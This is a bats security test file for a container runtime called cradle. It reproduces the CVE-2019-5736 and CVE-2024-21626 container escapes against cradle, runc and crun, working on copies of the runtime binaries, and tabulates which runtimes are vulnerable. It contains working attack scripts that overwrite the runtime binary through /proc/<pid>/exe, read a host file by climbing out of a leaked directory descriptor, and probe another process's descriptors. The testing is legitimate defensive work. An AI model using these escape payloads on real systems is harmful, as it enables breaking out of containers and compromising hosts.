#!/usr/bin/env bats
# What a created container's init exposes to other containers: its descriptors (issue 6
# item 1, CVE-2024-21626) and its image (issue 6 item 2, CVE-2019-5736). Each attack runs
# against cradle and, where installed, runc and crun, always on a COPY of the runtime's
# binary (the copy's checksum is checked afterwards); the file ends with a table of who is
# vulnerable.

load helpers
load security_helpers

setup() {
    STATE_ROOT=$(mktemp -d "$BATS_RUN_TMPDIR/state.XXXXXX")
    USED=$BATS_TEST_TMPDIR/used-runtimes
    : >"$USED"
}

teardown() {
    delete_used_runtimes
    rm -rf "$STATE_ROOT"
}

teardown_file() {
    print_attack_table
}

copy_unchanged() {
    [ "$(sha256sum <"$RUNTIME")" = "$SUM" ]
}

# The container in $BUNDLE runs in the host's pid namespace (no pid namespace of its own).
host_pid_namespace() {
    update_config '.linux.namespaces |= map(select(.type != "pid"))'
}

# The container in $BUNDLE also gets CAP_SYS_PTRACE, which passes the non-dumpable guard of
# the created init: what it then finds is what the second defence leaves.
with_ptrace() {
    update_config '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
}

# The container in $BUNDLE gets host directory $1 at /shared.
share_dir() {
    update_config --arg src "$1" \
        '.mounts += [{destination: "/shared", type: "bind", source: $src, options: ["rbind"]}]'
}

# The probe a second container runs against process $1: every descriptor of it, and
# whether any of them is a directory that leads out (HOSTDIR).
PROBE_FDS='p=$1
cd /proc/$p/fd 2>/dev/null || { echo NO_ACCESS; exit 0; }
for f in *; do
    echo "fd $f $(readlink "$f")"
    if [ -d "$f" ]; then echo "HOSTDIR $f: $(ls "$f/.." 2>&1 | tr "\n" " " | cut -c1-80)"; fi
done'

# fds_outcome: "vulnerable" when the probe's output shows a directory descriptor.
fds_outcome() {
    if grep -q '^HOSTDIR' <<<"$1"; then echo vulnerable; else echo safe; fi
}

# cradle's created init holds exactly stdio and the exec fifo (the sync socket is closed
# once it waits on the fifo).
assert_only_stdio_and_fifo() {
    local fds
    fds=$(grep '^fd ' <<<"$1" | awk '{print $2}' | sort -n | tr '\n' ' ')
    [[ $fds =~ ^0\ 1\ 2\ [0-9]+\ $ ]] || fail "created init holds more than stdio and the fifo: $1"
    grep -q 'exec.fifo$' <<<"$1" || fail "no exec fifo in: $1"
}

@test "issue 6 item 1: a created init holds no host directory (seen from the host pid namespace)" {
    local attack="item1 fds of a created init, host pidns" rt pid out
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sleep 100
        pid=$(create_quiet "$(new_id victim)")
        new_bundle
        host_pid_namespace
        with_ptrace
        set_args sh -c "$PROBE_FDS" probe "$pid"
        out=$(runtime run --bundle "$BUNDLE" "$(new_id probe)" 2>&1 </dev/null 3>&-)
        record_attack "$attack" "$rt" "$(fds_outcome "$out")"
        if is_cradle; then
            [[ $out != *HOSTDIR* ]] || fail "a host directory is reachable: $out"
            grep -q '^fd ' <<<"$out" || fail "probe saw no fd: $out"
            assert_only_stdio_and_fifo "$out"
        fi
    done
}

@test "issue 6 item 1: a created init holds no host directory (seen from its shared pid namespace)" {
    local attack="item1 fds of a created init, shared pidns" rt pid out
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sleep 100
        pid=$(create_quiet "$(new_id victim)")
        new_bundle
        join_pid_namespace_of "$pid"
        with_ptrace
        # In the shared namespace the created init is pid 1.
        set_args sh -c "$PROBE_FDS" probe 1
        out=$(runtime run --bundle "$BUNDLE" "$(new_id probe)" 2>&1 </dev/null 3>&-)
        record_attack "$attack" "$rt" "$(fds_outcome "$out")"
        if is_cradle; then
            [[ $out != *HOSTDIR* ]] || fail "a host directory is reachable: $out"
            grep -q '^fd ' <<<"$out" || fail "probe saw no fd: $out"
            assert_only_stdio_and_fifo "$out"
        fi
    done
}

@test "issue 6 item 1: a created init is not dumpable: /proc/<init>/fd and exe are closed to a container" {
    local attack="item1 init /proc/PID/fd,exe w/o SYS_PTRACE" rt pid out
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sleep 100
        pid=$(create_quiet "$(new_id victim)")
        new_bundle
        host_pid_namespace
        set_args sh -c 'readlink /proc/$1/fd/0 >/dev/null 2>&1 && echo FD_OPEN
            cat /proc/$1/exe >/dev/null 2>&1 && echo EXE_OPEN; echo done' probe "$pid"
        out=$(runtime run --bundle "$BUNDLE" "$(new_id probe)" 2>&1 </dev/null 3>&-)
        if grep -q _OPEN <<<"$out"; then
            record_attack "$attack" "$rt" vulnerable
        else
            record_attack "$attack" "$rt" safe
        fi
        if is_cradle; then
            assert_equal "$out" done
        fi
    done
}

# The attacker of CVE-2019-5736 in the host pid namespace: opens /proc/<init>/exe of a
# created container, tells the test (/shared/opened), waits for the init to exec the
# container's process, then writes through the descriptor.
ATTACK_EXE='exec >/shared/result 2>&1
p=$1
exec 3</proc/$p/exe || { echo OPEN_FAILED; touch /shared/opened /shared/done; exit 0; }
before=$(readlink /proc/$p/exe)
touch /shared/opened
i=0
while [ "$(readlink /proc/$p/exe 2>/dev/null)" = "$before" ] && [ $i -lt 200 ]; do
    sleep 0.05; i=$((i + 1))
done
if [ $i -ge 200 ]; then echo NEVER_EXECED
elif echo "#!/bin/sh" >>/proc/self/fd/3; then echo WRITE_OK
else echo WRITE_FAILED; fi
touch /shared/done'

# exe_outcome OUTPUT: vulnerable when the write went through or the copy changed; when it
# failed only because a process was executing the binary (ETXTBSY), that is luck, not a
# design: the attackers run detached so that no runtime process of the test is left then.
exe_outcome() {
    if grep -q WRITE_OK <<<"$1" || ! copy_unchanged; then
        echo vulnerable
    elif grep -qi 'busy' <<<"$1"; then
        echo "vulnerable (blocked only by ETXTBSY)"
    elif grep -q -e WRITE_FAILED -e OPEN_FAILED <<<"$1"; then
        echo safe
    else
        echo "n/a: inconclusive"
    fi
}

@test "CVE-2019-5736 (issue 6 item 2): /proc/<init>/exe of a created container cannot be written from the host pid namespace" {
    local attack="CVE-2019-5736 created init exe, host pidns" rt pid out shared victim
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sleep 100
        victim=$(new_id victim)
        pid=$(create_quiet "$victim")
        shared=$(mktemp -d "$BATS_TEST_TMPDIR/shared.XXXXXX")
        new_bundle
        host_pid_namespace
        with_ptrace
        share_dir "$shared"
        set_args sh -c "$ATTACK_EXE" attacker "$pid"
        runtime run -d --bundle "$BUNDLE" "$(new_id attacker)" >/dev/null 2>&1 </dev/null 3>&-
        wait_for_file "$shared/opened" || fail "the attacker never started: $(cat "$shared/result")"
        runtime start "$victim"
        wait_for_file "$shared/done" || fail "the attacker never finished: $(cat "$shared/result")"
        out=$(cat "$shared/result")
        record_attack "$attack" "$rt" "$(exe_outcome "$out")"
        if is_cradle; then
            copy_unchanged || fail "the runtime's binary was overwritten"
            [[ $out == *WRITE_FAILED* ]] || fail "the write was not refused: $out"
            # Refused by the image's design (EROFS, or EPERM for a sealed memfd), not by luck.
            [[ $out != *busy* ]] || fail "refused only because the binary was busy: $out"
        fi
    done
}

# The classic CVE-2019-5736 watcher, run as pid 1 of a "pod" pid namespace: waits for a
# process running /evil (the runtime's own image, through "#!/proc/self/exe"), opens its
# exe, lets it go on (it blocks opening its --log fifo), waits for it to exit, then writes.
WATCHER='exec >/shared/result 2>&1
found=
for i in $(seq 1 400); do
    for d in /proc/[0-9]*; do
        # Only a process rooted in the victim rootfs has this fifo; a created init
        # that is not dumpable does not show its root.
        [ -p "$d/root/evil.fifo" ] && found=${d#/proc/} && break
    done
    [ -n "$found" ] && break
    sleep 0.05
done
[ -n "$found" ] || { echo NEVER_SEEN; touch /shared/done; exit 0; }
exec 3</proc/$found/exe || { echo MISSED; touch /shared/done; exit 0; }
echo "opened $(readlink /proc/$found/exe)"
cat /proc/$found/root/evil.fifo >/dev/null
for i in $(seq 1 200); do [ -d /proc/$found ] || break; sleep 0.05; done
if echo "#!/bin/sh" >>/proc/self/fd/3; then echo WRITE_OK; else echo WRITE_FAILED; fi
touch /shared/done'

@test "CVE-2019-5736 (issue 6 item 2): a '#!/proc/self/exe' entrypoint cannot overwrite the runtime (shared pod pid namespace)" {
    local attack="CVE-2019-5736 #!/proc/self/exe, shared pidns" rt pod podpid out victim shared
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        shared=$(mktemp -d "$BATS_TEST_TMPDIR/shared.XXXXXX")
        new_bundle
        share_dir "$shared"
        set_args sh -c "$WATCHER"
        pod=$(new_id pod)
        runtime run -d --bundle "$BUNDLE" "$pod" >/dev/null 2>&1 </dev/null 3>&-
        podpid=$(container_pid "$pod")
        new_bundle
        copy_runtime_libraries
        printf '#!/proc/self/exe --log=/evil.fifo\n' >"$BUNDLE/rootfs/evil"
        chmod 755 "$BUNDLE/rootfs/evil"
        mkfifo "$BUNDLE/rootfs/evil.fifo"
        join_pid_namespace_of "$podpid"
        set_args /evil
        victim=$(new_id victim)
        create_quiet "$victim" >/dev/null
        runtime start "$victim"
        wait_for_file "$shared/done" || fail "the watcher never finished: $(cat "$shared/result")"
        out=$(cat "$shared/result")
        record_attack "$attack" "$rt" "$(exe_outcome "$out")"
        if is_cradle; then
            copy_unchanged || fail "the runtime's binary was overwritten"
            [[ $out == *WRITE_FAILED* ]] || fail "the write was not refused: $out"
            # Refused by the image's design (EROFS, or EPERM for a sealed memfd), not by luck.
            [[ $out != *busy* ]] || fail "refused only because the binary was busy: $out"
        fi
    done
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N (N = 3..10) never gives a cwd on the host" {
    local attack="CVE-2024-21626 cwd /proc/self/fd/N" rt n out marker outcome
    marker=$(mktemp "$BATS_RUN_TMPDIR/host-marker.XXXXXX")
    echo HOST_FILE_REACHED >"$marker"
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        # From a cwd outside the container, enough ".." reach the host's root.
        set_args sh -c "cat ../../../../../../../../../../..$marker 2>/dev/null; exit 0"
        outcome=safe
        for n in 3 4 5 6 7 8 9 10; do
            update_config --arg cwd "/proc/self/fd/$n" '.process.cwd = $cwd'
            out=$(runtime run --bundle "$BUNDLE" "$(new_id cwd$n)" 2>&1 </dev/null 3>&-) || true
            if [[ $out == *HOST_FILE_REACHED* ]]; then
                outcome="vulnerable (fd $n)"
                break
            fi
        done
        record_attack "$attack" "$rt" "$outcome"
        if is_cradle; then
            assert_equal "$outcome" safe
        fi
    done
}

@test "CVE-2024-21626: a container process holds no descriptor but stdio" {
    local attack="CVE-2024-21626 fds of the container process" rt out
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sh -c 'ls /proc/$$/fd; exit 0'
        out=$(runtime run --bundle "$BUNDLE" "$(new_id fds)" 2>&1 </dev/null 3>&-)
        if [ "$out" = $'0\n1\n2' ]; then
            record_attack "$attack" "$rt" safe
        else
            record_attack "$attack" "$rt" "vulnerable ($(echo $out))"
        fi
        if is_cradle; then
            assert_equal "$out" $'0\n1\n2'
        fi
    done
}

@test "--preserve-fds passes exactly the descriptors asked for" {
    local rt out
    for rt in $(attack_runtimes); do
        use_runtime "$rt"
        [ -z "$(unusable_reason)" ] || continue
        new_bundle
        echo three >"$BATS_TEST_TMPDIR/f3"
        echo four >"$BATS_TEST_TMPDIR/f4"
        set_args sh -c 'ls /proc/$$/fd; cat <&3; cat <&4'
        out=$(runtime run --preserve-fds 2 --bundle "$BUNDLE" "$(new_id preserve)" 2>&1 \
            </dev/null 3<"$BATS_TEST_TMPDIR/f3" 4<"$BATS_TEST_TMPDIR/f4" 5</dev/null)
        assert_equal "$out" $'0\n1\n2\n3\n4\nthree\nfour'
    done
}

@test "issue 6 item 2: cradle's created init runs from a read-only image, even for the host's root" {
    use_runtime "$CRADLE"
    new_bundle
    set_args sleep 100
    local id pid
    id=$(new_id victim)
    pid=$(create_quiet "$id")
    run stat -L -f -c %T "/proc/$pid/exe"
    assert_output overlayfs
    # So does every other process create left behind (the exit monitor, a fork of it).
    local p fs procs=0
    for p in $(grep -l -F "$STATE_ROOT" /proc/[0-9]*/cmdline 2>/dev/null | cut -d/ -f3); do
        fs=$(stat -L -f -c %T "/proc/$p/exe" 2>/dev/null) || continue # gone (grep itself)
        [ "$fs" = overlayfs ] || fail "process $p of create runs from $(readlink "/proc/$p/exe")"
        procs=$((procs + 1))
    done
    [ "$procs" -ge 2 ] || fail "expected the init and the exit monitor, found $procs"
    exec 4<"/proc/$pid/exe"
    runtime start "$id"
    run sh -c 'echo x >>/proc/self/fd/4'
    exec 4<&-
    assert_failure
    assert_output --partial "Read-only file system"
    copy_unchanged || fail "the runtime's binary was overwritten"
}

@test "issue 6 item 2: the re-exec marker in the environment cannot skip the protection" {
    use_runtime "$CRADLE"
    new_bundle
    set_args true
    run env _CRADLE_SELF_IMAGE_REEXEC=1 "$RUNTIME" --root "$STATE_ROOT" run --bundle "$BUNDLE" \
        "$(new_id marker)"
    assert_failure
    assert_output --partial "still writable"
}

@test "issue 6 item 2: commands that start no container process do not re-execute cradle" {
    use_runtime "$CRADLE"
    # With the marker set, a command that checked its image would fail (test above).
    run env _CRADLE_SELF_IMAGE_REEXEC=1 "$RUNTIME" --root "$STATE_ROOT" list
    assert_success
    run env _CRADLE_SELF_IMAGE_REEXEC=1 "$RUNTIME" --help
    assert_success
}

@test "issue 6 item 2: without CAP_SYS_ADMIN (no overlayfs), cradle re-executes from a sealed memfd copy" {
    command -v setpriv >/dev/null || skip "setpriv is not installed"
    use_runtime "$CRADLE"
    # The re-executed cradle checks its image again and fails if the copy is not sealed.
    run setpriv --inh-caps=-sys_admin --bounding-set=-sys_admin "$RUNTIME" --debug create --help
    assert_success
    assert_output --partial "using a sealed memfd copy"
    assert_output --partial "Usage: cradle create"
    refute_output --partial "still writable"
}

# The directories among the descriptors of process $1, seen from the host.
directory_fds_of() {
    local f
    for f in /proc/"$1"/fd/*; do
        [ -d "$f" ] && echo "$f -> $(readlink "$f")"
    done
    return 0
}

@test "issue 6 item 1: --preserve-fds over descriptors the caller left closed passes none of the runtime's" {
    local attack="item1 --preserve-fds 3 with fds 3-5 closed" rt out id pid
    for rt in $(attack_runtimes); do
        usable_runtime "$attack" "$rt" || continue
        new_bundle
        set_args sh -c 'for f in /proc/$$/fd/*; do [ -d "$f" ] && echo "HOSTDIR $f"; done; exit 0'
        out=$(runtime run --preserve-fds 3 --bundle "$BUNDLE" "$(new_id run)" 2>&1 \
            </dev/null 3>&- 4>&- 5>&-)
        if [[ $out == *HOSTDIR* ]]; then
            record_attack "$attack" "$rt" "vulnerable ($(echo $out))"
        else
            record_attack "$attack" "$rt" safe
        fi
        if is_cradle; then
            [[ $out != *HOSTDIR* ]] || fail "the container got a runtime directory: $out"
            # The created init holds none either (what a neighbour would see).
            id=$(new_id created)
            runtime create --preserve-fds 3 --bundle "$BUNDLE" "$id" >/dev/null 2>&1 \
                </dev/null 3>&- 4>&- 5>&-
            pid=$(container_pid "$id")
            assert_equal "$(directory_fds_of "$pid")" ""
        fi
    done
}

@test "issue 6 item 1: the init's log lines reach --log through the parent, not through an inherited descriptor" {
    use_runtime "$CRADLE"
    new_bundle
    set_args true
    local log=$BATS_TEST_TMPDIR/cradle.log
    run runtime --debug --log "$log" run --bundle "$BUNDLE" "$(new_id log)"
    assert_success
    run grep -c 'container init: kept stdio, 0 preserved fds and 2 of the runtime' "$log"
    assert_output 1
}

@test "issue 6 item 1: a created init in a user namespace, with bind mounts, holds no host directory" {
    use_runtime "$CRADLE"
    new_bundle
    chmod 755 "$BATS_RUN_TMPDIR" "$BATS_TEST_TMPDIR"
    local shared id pid
    shared=$(mktemp -d "$BATS_TEST_TMPDIR/shared.XXXXXX")
    chmod 755 "$shared"
    mkdir "$BUNDLE/rootfs/shared"
    share_dir "$shared"
    update_config '.linux.namespaces += [{type: "user"}]
        | .linux.uidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
        | .linux.gidMappings = [{containerID: 0, hostID: 100000, size: 65536}]'
    set_args sleep 100
    id=$(new_id userns)
    pid=$(create_quiet "$id")
    assert_equal "$(directory_fds_of "$pid")" ""
    # stdio and the exec fifo, as without a user namespace.
    run ls "/proc/$pid/fd"
    assert_equal "${#lines[@]}" 4
}
